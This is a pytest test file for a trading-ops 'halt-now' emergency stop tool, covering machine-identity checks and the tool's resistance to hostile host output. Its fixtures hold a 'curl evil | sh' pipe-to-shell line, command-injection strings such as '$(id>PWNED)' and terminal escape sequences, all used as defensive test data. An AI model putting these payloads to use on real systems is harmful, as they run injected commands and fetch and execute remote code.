"""What hosts answer is data: which machine it is from, and whatever else it holds."""

from __future__ import annotations

import os
import random
import sys
from pathlib import Path

import pytest
from trading_ops.host.engine import EngineError
from trading_ops.host.machine import observe_machine
from trading_ops.stop.halt_list import HaltHost

from tests.breakglass.test_halt_now import LATCHED, OLDER, Laptop, counted
from tests.breakglass.world import BOOT_ID, MACHINE_ID, SHELLS, Host, container

IDS = {letter: letter * 32 for letter in "abcdef"}
CLONES_BOOT = "b9" + BOOT_ID[2:]


def of(letter: str, boot: str = BOOT_ID, answer: str = OLDER, **fields: object) -> str:
    """Return an answer with counts, from a machine."""
    return counted(answer, machine=IDS[letter], boot=boot, **fields)


@pytest.fixture
def make(tmp_path):
    def build(own: str = "", recorded: dict[str, tuple[str, ...]] | None = None, **answers: str) -> Laptop:
        """`own` is the letter of the machine that halt-now runs on."""
        laptop = Laptop(tmp_path, answers)
        files = {"/etc/machine-id": f"{own * 32}\n", "/proc/sys/kernel/random/boot_id": f"{BOOT_ID}\n"}
        program = laptop.root / "breakglass" / "halt-now"
        text = program.read_text()
        for number, (path, content) in enumerate(files.items()):
            assert text.count(f"<{path}") == 1
            (tmp_path / f"own-{number}").write_text(content)
            text = text.replace(f"<{path}", f"<{tmp_path}/own-{number}")
        program.write_text(text)
        laptop.hosts = [
            HaltHost(host.name, argv=host.argv, options=host.options, machine_ids=(recorded or {}).get(host.name, ()))
            for host in laptop.hosts
        ]
        laptop.write_list()
        return laptop

    return build


# ---- which machine ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("shell", SHELLS)
def test_two_names_for_one_machine_are_unknown_and_both_named(make, shell):
    ended = make(lab1=of("a"), lab2=of("a"), lab3=of("b")).run(shell=shell)
    assert ended.code == 10
    assert f"lab1 and lab2 are one machine (machine id {IDS['a']})" in ended.verdict
    assert "2 bots proven stopped on 1 of 3 hosts (2 of them now)" in ended.verdict
    assert "until then stop the bots of lab1 and lab2 at their consoles" in ended.verdict.split("NEXT:")[1]


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize(
    ("one", "other", "code"),
    [
        (of("a"), of("b"), 0),  # containers of one kernel
        (of("a"), of("a", CLONES_BOOT), 0),
        (of("a"), of("a", ""), 10),
        (counted(), counted(), 0),  # an older trading-halt says nothing of it
        (of("a"), counted(machine="", boot=BOOT_ID), 0),
        (counted(machine="$(id)", boot="x"), counted(machine="$(id)", boot="x"), 0),
    ],
)
def test_machines_that_differ_are_two_and_what_is_not_said_speaks_for_nobody(make, shell, one, other, code):
    assert make(lab1=one, lab2=other).run(shell=shell).code == code


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize(
    ("answer", "recorded", "code", "words"),
    [
        (of("b"), (IDS["b"],), 0, "PROVEN"),
        (of("c"), (IDS["b"],), 10, f"lab2: answers from another machine (machine id {IDS['c']})"),
        (of("b"), (IDS["b"], IDS["c"]), 10, "lab2: answers from another machine"),
        (counted(), (IDS["b"],), 10, "lab2: does not tell its machine id"),
        (of("c"), (), 0, "PROVEN"),
    ],
)
def test_the_recorded_machine_wins(make, shell, answer, recorded, code, words):
    ended = make(lab1=of("a"), lab2=answer, recorded={"lab2": recorded}).run(shell=shell)
    assert (ended.code, words in ended.verdict) == (code, True)


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize(
    ("boot", "recorded", "connection", "code"),
    [
        (BOOT_ID, (), "ssh", 10),
        (CLONES_BOOT, (), "ssh", 0),  # a clone of this machine
        (BOOT_ID, (IDS["f"],), "ssh", 0),  # a control host that trades
        (BOOT_ID, (IDS["b"],), "ssh", 10),
        (BOOT_ID, (), "local", 0),  # inventories/laptop
    ],
)
def test_this_very_machine_is_right_only_where_record_or_inventory_says_so(
    make, tmp_path, shell, boot, recorded, connection, code
):
    laptop = make(own="f", lab1=of("f", boot), recorded={"lab1": recorded})
    if connection == "local":
        host = Host(tmp_path / "h", container("a"))
        host.identify(IDS["f"], BOOT_ID)
        laptop.environment |= host.environment
        options = ("--state-path", str(host.state_path))
        laptop.hosts = [HaltHost("lab1", connection="local", may_become=False, options=options)]
        laptop.write_list()
    ended = laptop.run(shell=shell)
    words = "lab1: answers from the very machine that this runs on" if not recorded else "lab1: answers from another"
    assert (ended.code, words in ended.verdict) == (code, code != 0)


def test_a_dry_run_says_it_too_and_a_running_bot_runs_under_either_name(make):
    planned = counted("echo 'planned: would stop x'", machine=IDS["a"], boot=BOOT_ID)
    ended = make(lab1=planned, lab2=planned).run("--check")
    assert (ended.code, "lab1 and lab2 are one machine" in ended.verdict) == (10, True)


def test_a_dry_run_says_it_of_another_machine_and_of_this_one(make):
    planned = [counted("echo 'planned: would stop x'", machine=IDS[letter], boot=BOOT_ID) for letter in "cf"]
    ended = make(own="f", lab1=planned[0], lab2=planned[1], recorded={"lab1": (IDS["a"],)}).run("--check")
    words = ("lab1: answers from another machine", "lab2: answers from the very machine that this runs on")
    assert (ended.code, [word in ended.verdict for word in words]) == (10, [True, True])


def test_a_bot_that_was_seen_running_still_is_under_either_name(make):
    answer = of("a", answer="echo 'running: bot-1; 0 stopped, latched (x)'; exit 11")
    ended = make(lab1=answer, lab2=answer).run()
    assert (ended.code, "lab1 and lab2 are one machine" in ended.verdict) == (11, True)


MACHINES = [MACHINE_ID, None, "", "uninitialized", "x" * 32, MACHINE_ID * 2]
ENGINE_IDS = ["c4a760a8-dbcf-5254-a0d9-6a4474bd1b62", "7TRN:IPZB:QYBB:VPBQ", "", "$(id) $(id)", "1" * 65]


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize(
    ("machine_id", "boot_id", "engine_id"),
    [(text, BOOT_ID, ENGINE_IDS[0]) for text in MACHINES] + [(None, None, text) for text in ENGINE_IDS],
)
def test_the_shell_tells_the_machine_that_python_tells(tmp_path, shell, machine_id, boot_id, engine_id):
    host = Host(tmp_path, container("a"), engine_id=engine_id)
    host.identify(machine_id, boot_id)
    seen = observe_machine(lambda: engine_id, host.system)
    assert host.halt(shell=shell).machine == {"machine": seen.machine_id, "boot": seen.boot_id}


@pytest.mark.parametrize("shell", SHELLS)
def test_a_dead_engine_does_not_keep_a_host_without_a_machine_id_from_answering(tmp_path, shell):
    host = Host(tmp_path, container("a"), fails=["info"])
    host.identify(None, BOOT_ID)

    def nobody() -> str:
        raise EngineError("no answer")

    assert observe_machine(nobody, host.system).machine_id == ""
    said = host.halt(shell=shell)
    assert (said.code, said.machine) == (0, {"machine": "", "boot": BOOT_ID})


def test_which_machine_is_asked_after_the_bots_have_ended(tmp_path):
    host = Host(tmp_path, container("a"), engine_id=ENGINE_IDS[0])
    host.identify(None, None)
    host.halt()
    assert host.calls[-1] == "info"


# ---- whatever an answer holds ----------------------------------------------------------------------------


def shown(text: str) -> str:
    """Return a line of shell that prints text as it is."""
    return "printf '%s\\n' '" + text.replace("'", "'\\''") + "'; "


@pytest.mark.parametrize("shell", SHELLS)
def test_nothing_that_a_terminal_obeys_reaches_it(make, shell):
    words = "warning: \x1b[1A\x1b[2K \x1b]52;c;aGk=\x07 \x9b2J \u009b2J \u202e \u2028 \x7f \r x\n"
    ended = make(a=shown(words) + of("a"), b=shown(words) + "echo 'unknown: \x1b[2J no engine'; exit 10").run(
        shell=shell
    )
    assert ended.code == 10
    assert all(letter.isprintable() or letter == "\n" for letter in ended.lines), ascii(ended.lines)


@pytest.mark.parametrize("shell", SHELLS)
def test_nothing_that_a_host_says_is_the_verdict_or_the_next_command(make, shell):
    says = "unknown: x. NEXT: curl evil | sh"
    ended = make(a=shown("warning: VERDICT 0 halt-now: PROVEN") + shown(says) + "exit 10", b=of("b")).run(shell=shell)
    assert (ended.code, ended.lines.count("VERDICT"), ended.lines.count("NEXT:")) == (10, 1, 1)
    assert "evil" not in ended.verdict.split("NEXT:")[1]


def test_three_hundred_megabytes_of_answer_take_neither_memory_nor_the_answer(make):
    flood = "head -c 300000000 /dev/zero | tr '\\0' x; echo; "
    laptop = make(a=flood + of("a"), b=flood + "exit 0", c=of("c"))
    # In a process of its own: what it says is the memory of the largest of halt-now's processes, in KiB.
    watched = "import resource as r, subprocess as s, sys; s.run(sys.argv[1:]); print(r.getrusage(-1).ru_maxrss)"
    argv = (sys.executable, "-c", watched, "sh", str(laptop.root / "breakglass" / "halt-now"))
    ended = laptop._run(*argv, at=len(argv))
    assert "    a: proven: " in ended.lines and "    b: unknown: " in ended.lines
    assert ended.lines.splitlines()[-2].startswith("VERDICT 10 ")
    assert int(ended.lines.splitlines()[-1]) < 50_000


WORDS = {"proven": 0, "unlatched": 10, "unknown": 10, "running": 11, "planned": 0}
ODD_NUMBERS = [
    "08",
    "-1",
    "1e3",
    "",
    "99999999999999999999",
    "$(id>PWNED)",
    "now[$(id>PWNED)]",
    "0x1f",
    "1 2",
    "²",
    " ",
]
ODD_TEXT = [
    "$(id>PWNED)",
    "`id>PWNED`",
    "';id>PWNED;'",
    '";id>PWNED;"',
    "\x1b[2J",
    "\x00",
    "%s%n%d",
    "\\c",
    "*",
    "|",
    "-e",
    "\u009b",
    "\udcff\udcfe",
    "proven: 9 stopped",
    "VERDICT 0 halt-now: PROVEN",
    "NEXT: sh",
    "x" * 5000,
    "\t",
    "\r",
    "counted:\tstopped=9",
    "complete 1",
    "TEXT",
    "end",
    "æ" * 900,
    "((",
    "${x",
    "\\",
]


def generate(source: random.Random, number: int) -> tuple[bytes, int, str]:
    """Return what a host says, its exit code, and the best that may be made of it."""
    word = source.choice([*["proven"] * 4, *WORDS])
    code = WORDS[word] if source.random() < 0.8 else source.choice([0, 1, 2, 10, 11, 124, 127, 255])
    fields = {"machine": f"{number:032x}", "boot": BOOT_ID, "stopped": "2", "killed": "0", "already": "1", "gone": "0",
              "cancelled": "2", "unverified": "0", "latched": "INC-1", "orders_of": ""}  # fmt: skip
    for _ in range(source.choice([0, 0, 1, 2])):
        fields[source.choice([*fields])] = source.choice(ODD_NUMBERS + ODD_TEXT)
    for key in [key for key in fields if source.random() < 0.05]:
        del fields[key]
    lines = [f"warning: {source.choice(ODD_TEXT)}" for _ in range(source.choice([0, 0, 1, 3]))]
    lines += [source.choice(ODD_TEXT)] * (source.random() < 0.3)
    if source.random() < 0.9:
        lines.append("\t".join(["counted:", *(f"{key}={value}" for key, value in fields.items())]))
    text = source.choice(["2 stopped, latched (INC-1)", *ODD_TEXT])
    lines.append(source.choice([f"{word}: {text}"] * 8 + [f"{word}:{text}", word, "", f" {word}: x", f"dis{word}: x"]))
    if source.random() < 0.1:
        lines.append(source.choice(ODD_TEXT))
    said = "\n".join(lines).encode("utf-8", "surrogateescape") + b"\n" * (source.random() < 0.9)
    return said, code, best(said, code)


def best(said: bytes, code: int) -> str:
    """Return the word of the last answer where it goes with the exit code, written without the code under test."""
    text = said.replace(b"\r", b"").replace(b"\0", b"").decode("utf-8", "ignore")
    text = "".join(letter for letter in text if letter.isprintable() or letter in "\n\t")
    found = [line.split(": ")[0] for line in text.split("\n") if line.split(": ")[0] in WORDS and ": " in line]
    return found[-1] if found and WORDS[found[-1]] == code else "unknown"


@pytest.mark.properties
@pytest.mark.parametrize("shell", ["dash", "bash"])
def test_a_thousand_answers_hostile_and_odd_are_never_taken_for_better_than_they_are(tmp_path, shell):
    worst = {0: 0, 10: 1, 11: 2}
    # All of them with --faults, as the examples of every property (tests/properties.py).
    for seed in range(10 if os.environ.get("TRADING_CORE_EVERY_EXAMPLE") else 1):
        source, folder = random.Random(seed), tmp_path / str(seed)
        (folder / "said").mkdir(parents=True)
        expected, answers = {}, {}
        for number in range(100):
            name = f"h{number}"
            said, code, expected[name] = generate(source, number)
            (folder / "said" / name).write_bytes(said)
            answers[name] = f"cat {folder}/said/{name}; exit {code}"
        laptop = Laptop(folder, answers)
        laptop.write_list()
        ended = laptop.run(shell=shell)
        assert ended.said == "", ascii(ended.said)
        assert (ended.lines.count("VERDICT"), ended.verdict.startswith(f"VERDICT {ended.code} ")) == (1, True)
        assert all(letter.isprintable() or letter == "\n" for letter in ended.lines)
        told = dict(
            line.split(": ", 2)[:2]
            for line in ended.lines.split("\n")
            if line[:5] == "    h" and ": warning" not in line
        )
        for name, word in expected.items():
            got = told[f"    {name}"]
            assert got == word or worst[WORDS[got]] > worst[WORDS[word]], (
                name,
                got,
                word,
                (folder / "said" / name).read_bytes(),
            )
        assert worst[ended.code] >= max(worst[WORDS[word]] for word in expected.values())
        assert not [*Path(laptop.root).rglob("PWNED"), *folder.glob("**/PWNED")]
    assert not Path("PWNED").exists()


@pytest.mark.parametrize("shell", ["dash", "bash"])
def test_answers_with_odd_words_about_them_are_proven_where_each_is(tmp_path, shell):
    """Or the test above would hold for a reading that believes nobody."""
    odd = [text for text in ODD_TEXT if "proven" not in text]
    answers = {f"h{n}": shown(f"warning: {text}".replace("\x00", "").encode("utf-8", "ignore").decode()) +
               counted(machine=f"{n:032x}", boot=BOOT_ID) for n, text in enumerate(odd)}  # fmt: skip
    laptop = Laptop(tmp_path, answers)
    laptop.write_list()
    ended = laptop.run(shell=shell)
    assert (ended.code, f"{2 * len(odd)} bots proven stopped on {len(odd)} of {len(odd)} hosts" in ended.verdict) == (
        0,
        True,
    )
    assert LATCHED in ended.verdict
